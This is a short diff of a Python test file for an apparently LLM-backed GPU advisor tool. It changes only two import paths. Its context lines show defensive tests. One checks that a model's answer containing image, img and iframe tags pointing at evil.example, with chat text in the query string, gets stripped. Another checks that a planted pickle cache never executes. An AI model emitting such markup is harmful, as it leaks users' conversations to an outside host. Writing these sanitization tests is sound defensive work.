@@ -111,7 +111,7 @@ def test_every_html_page_forbids_remote_images_and_scripts(open_site):
 
 
 def test_a_models_answer_cannot_make_the_browser_fetch_another_host():
-    from advisor.agent.text_tools import clean_answer
+    from advisor.llm.text_tools import clean_answer
 
     answer = clean_answer('Result ![chart](https://evil.example/p.png?c=chat-text) <img src="https://evil.example/i?x=1"> '
                           '<iframe src="https://evil.example/f"></iframe> see [docs](https://docs.nvidia.com).')  # fmt: skip
@@ -176,7 +176,7 @@ PLANTED_MARK = "/tmp/gpu-advisor-planted-pickle-ran"
 
 
 def test_a_planted_cache_file_never_runs_and_is_replaced(tmp_path, caplog):
-    from advisor.understanding import training
+    from advisor.nlu import training
     from knowledge.catalog import load_catalog
 
     if os.path.exists(PLANTED_MARK):
